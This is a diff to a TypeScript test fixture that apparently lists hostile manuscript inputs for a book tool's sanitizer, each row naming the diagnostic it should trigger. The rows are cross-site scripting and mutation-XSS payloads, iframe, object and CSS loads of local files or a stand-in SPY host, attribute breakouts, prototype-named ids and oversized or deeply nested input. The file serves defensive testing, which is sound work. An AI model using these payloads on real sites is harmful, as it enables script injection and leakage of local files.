@@ -1,5 +1,6 @@
-// Hostile manuscripts, one line each: what a stranger might write, and what is said of it. SECRET stands for the path of a
-// file outside of the book's folder; SPY for an address on the network. `[]` means that it stays as words, and harmless.
+// Hostile manuscripts, one line each: what a stranger might write, and what is said of it. SECRET stands for
+// the path of a file outside of the book's folder; SPY for an address on the network. `[]` means that it
+// stays as words, and harmless.
 export interface HostileText {
   readonly name: string;
   readonly text: string;
@@ -20,27 +21,73 @@ export const MANUSCRIPTS: readonly HostileText[] = [
   row('script that is never closed', '<script>document.title="PWNED"', 'TEXT-005'),
   row('script after a slash', '<script/src=SPY/x.js></script>'),
   row('script in a comment trick', '<!--><script>document.title="PWNED"</script>-->', 'TEXT-006'),
-  row('script in noscript', '<noscript><p title="</noscript><script>document.title=1</script>"></noscript>', 'TEXT-006', 'TEXT-007'),
+  row(
+    'script in noscript',
+    '<noscript><p title="</noscript><script>document.title=1</script>"></noscript>',
+    'TEXT-006',
+    'TEXT-007',
+  ),
   row('script in MathML', '<math><mtext><script>document.title="PWNED"</script></mtext></math>', 'TEXT-006'),
-  row('script by mutation: mglyph', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>', 'TEXT-006'),
-  row('script by mutation: annotation-xml', '<math><annotation-xml encoding="text/html"><script>document.title="PWNED"</script></annotation-xml></math>', 'TEXT-006'),
-  row('script by mutation: svg and style', '<svg><style><img src=x onerror=alert(1)></style></svg>', 'FIG-001', 'TEXT-005', 'TEXT-007', 'TEXT-020'),
-  row('script by mutation: form in form', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)></form>', 'TEXT-005', 'TEXT-006'),
-  row('script by mutation: noembed', '<noembed><img src="</noembed><img src=noembed.png onerror=alert(1)>"></noembed>', 'FIG-001', 'TEXT-006', 'TEXT-007', 'TEXT-020', 'TYPO-006'),
+  row(
+    'script by mutation: mglyph',
+    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
+    'TEXT-006',
+  ),
+  row(
+    'script by mutation: annotation-xml',
+    '<math><annotation-xml ' +
+      'encoding="text/html"><script>document.title="PWNED"</script></annotation-xml></math>',
+    'TEXT-006',
+  ),
+  row(
+    'script by mutation: svg and style',
+    '<svg><style><img src=x onerror=alert(1)></style></svg>',
+    'FIG-001',
+    'TEXT-005',
+    'TEXT-007',
+    'TEXT-020',
+  ),
+  row(
+    'script by mutation: form in form',
+    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)></form>',
+    'TEXT-005',
+    'TEXT-006',
+  ),
+  row(
+    'script by mutation: noembed',
+    '<noembed><img src="</noembed><img src=noembed.png onerror=alert(1)>"></noembed>',
+    'FIG-001',
+    'TEXT-006',
+    'TEXT-007',
+    'TEXT-020',
+    'TYPO-006',
+  ),
   row('handler: onerror', '<img src="images/dot.png" alt="dot" onerror="document.title=1">', 'TEXT-007'),
   row('handler: onload', '<p onload="document.title=1">words</p>', 'TEXT-007'),
   row('handler: onclick', '<a href="https://example.org/" onclick="document.title=1">words</a>', 'TEXT-007'),
   row('handler in mixed letters', '<p oNmOuSeOvEr="document.title=1">words</p>', 'TEXT-007'),
   row('handler after a slash', '<p/onfocus=document.title=1 autofocus tabindex=1>words</p>'),
   row('handler by braces', 'Words{onclick="document.title=1"}', 'TEXT-007'),
-  row('handler on an image by braces', '![](images/dot.png){.decorative onerror="document.title=1"}', 'TEXT-007'),
+  row(
+    'handler on an image by braces',
+    '![](images/dot.png){.decorative onerror="document.title=1"}',
+    'TEXT-007',
+  ),
   row('handler on details', '<details open ontoggle="document.title=1">words</details>', 'TEXT-006'),
-  row('handler: onbegin in SVG', '<svg><animate onbegin=alert(1) attributeName=x></animate></svg>', 'TEXT-006'),
+  row(
+    'handler: onbegin in SVG',
+    '<svg><animate onbegin=alert(1) attributeName=x></animate></svg>',
+    'TEXT-006',
+  ),
   row('handler on the body', '<body onload="document.title=1">words', 'TEXT-006'),
   // what is fetched or embedded
   row('frame of a local file', '<iframe src="file://SECRET"></iframe>', 'TEXT-006'),
   row('frame of a page', '<iframe src="SPY/"></iframe>', 'TEXT-006'),
-  row('frame with its own page', '<iframe srcdoc="<script>parent.document.title=1</script>"></iframe>', 'TEXT-006'),
+  row(
+    'frame with its own page',
+    '<iframe srcdoc="<script>parent.document.title=1</script>"></iframe>',
+    'TEXT-006',
+  ),
   row('frameset', '<frameset><frame src="file://SECRET"></frameset>', 'TEXT-006'),
   row('object', '<object data="file://SECRET" type="text/plain"></object>', 'TEXT-006'),
   row('embed', '<embed src="file://SECRET">', 'TEXT-006'),
@@ -51,7 +98,11 @@ export const MANUSCRIPTS: readonly HostileText[] = [
   row('link that imports', '<link rel="import" href="file://SECRET">', 'TEXT-006'),
   row('style that imports', '<style>@import "SPY/x.css";</style>', 'TEXT-006'),
   row('style with an address', '<style>p { background: url(SPY/x.png) }</style>', 'TEXT-006'),
-  row('style with a font', '<style>@font-face { font-family: x; src: url(file://SECRET) }</style>', 'TEXT-006'),
+  row(
+    'style with a font',
+    '<style>@font-face { font-family: x; src: url(file://SECRET) }</style>',
+    'TEXT-006',
+  ),
   row('style in a style', '<style><style>p{}</style></style>', 'TEXT-006'),
   row('style of an element', '<p style="background: url(SPY/x.png)">words</p>', 'TEXT-007'),
   row('style by braces', 'Words{style="background: url(SPY/x.png)"}', 'TEXT-007'),
@@ -65,16 +116,28 @@ export const MANUSCRIPTS: readonly HostileText[] = [
   row('isindex', '<isindex action="SPY/">', 'TEXT-006'),
   row('video', '<video src="SPY/x.mp4" poster="SPY/x.png"></video>', 'TEXT-006'),
   row('audio', '<audio src="file://SECRET"></audio>', 'TEXT-006'),
-  row('source sets', '<picture><source srcset="SPY/x.png"><img src="images/dot.png" alt="dot"></picture>', 'TEXT-006'),
+  row(
+    'source sets',
+    '<picture><source srcset="SPY/x.png"><img src="images/dot.png" alt="dot"></picture>',
+    'TEXT-006',
+  ),
   row('source set of an image', '<img src="images/dot.png" srcset="SPY/x.png 2x" alt="dot">', 'TEXT-007'),
   row('ping', '<a href="https://example.org/" ping="SPY/">words</a>', 'TEXT-007'),
   row('cite of a quotation', '<blockquote cite="SPY/">words</blockquote>', 'TEXT-007'),
   row('long description', '<img src="images/dot.png" alt="dot" longdesc="SPY/">', 'TEXT-007'),
   row('SVG with an image', '<svg><image href="SPY/x.png"/></svg>', 'TEXT-006'),
   row('SVG with a use', '<svg><use xlink:href="file://SECRET#x"/></svg>', 'TEXT-006'),
-  row('SVG with a foreign object', '<svg><foreignObject><iframe src="file://SECRET"></iframe></foreignObject></svg>', 'TEXT-006'),
+  row(
+    'SVG with a foreign object',
+    '<svg><foreignObject><iframe src="file://SECRET"></iframe></foreignObject></svg>',
+    'TEXT-006',
+  ),
   row('MathML link', '<math href="javascript:document.title=1"><mi>x</mi></math>', 'TEXT-007'),
-  row('MathML action', '<math><maction actiontype="statusline#SPY" xlink:href="javascript:alert(1)"><mi>x</mi></maction></math>', 'TEXT-006'),
+  row(
+    'MathML action',
+    '<math><maction actiontype="statusline#SPY" xlink:href="javascript:alert(1)"><mi>x</mi></maction></math>',
+    'TEXT-006',
+  ),
   row('template', '<template><script>document.title="PWNED"</script></template>', 'TEXT-006'),
   row('slot', '<slot name="x">words</slot>', 'TEXT-006'),
   row('dialog', '<dialog open>words</dialog>', 'TEXT-006'),
@@ -138,12 +201,19 @@ export const MANUSCRIPTS: readonly HostileText[] = [
   row('slot of ours', 'Words <!--slot:1--> &lt;fm-slot&gt; words'),
   // shape
   row('attribute of 200,000 letters', `<p class="${'a'.repeat(200_000)}">words</p>`),
-  row('attributes by the thousand', `<p ${Array.from({ length: 2000 }, (_, index) => `a${index}="b"`).join(' ')}>words</p>`, 'TEXT-007'),
+  row(
+    'attributes by the thousand',
+    `<p ${Array.from({ length: 2000 }, (_, index) => `a${index}="b"`).join(' ')}>words</p>`,
+    'TEXT-007',
+  ),
   row('id that breaks out', '<p id="x&quot; onload=&quot;alert(1)">words</p>', 'TEXT-021'),
   row('class that breaks out', 'Words{.x"onload="alert(1)}', 'TYPO-006'),
   row('prototype as an id', '## Words {#__proto__}\n\n## More {#constructor}'),
   row('mention of a prototype', 'Words {@__proto__} and {@constructor|him}.', 'CAST-001'),
-  row('note named as a prototype', 'Words[^__proto__] and[^constructor].\n\n[^__proto__]: one\n\n[^constructor]: two'),
+  row(
+    'note named as a prototype',
+    'Words[^__proto__] and[^constructor].\n\n[^__proto__]: one\n\n[^constructor]: two',
+  ),
   row('quotations 300 deep', `${'>'.repeat(300)} words`, 'TEXT-003'),
   row('lists 300 deep', `${'- '.repeat(300)}words`, 'TEXT-003'),
   row('elements 2000 deep', `${'<div>'.repeat(2000)}words${'</div>'.repeat(2000)}`, 'TEXT-003'),
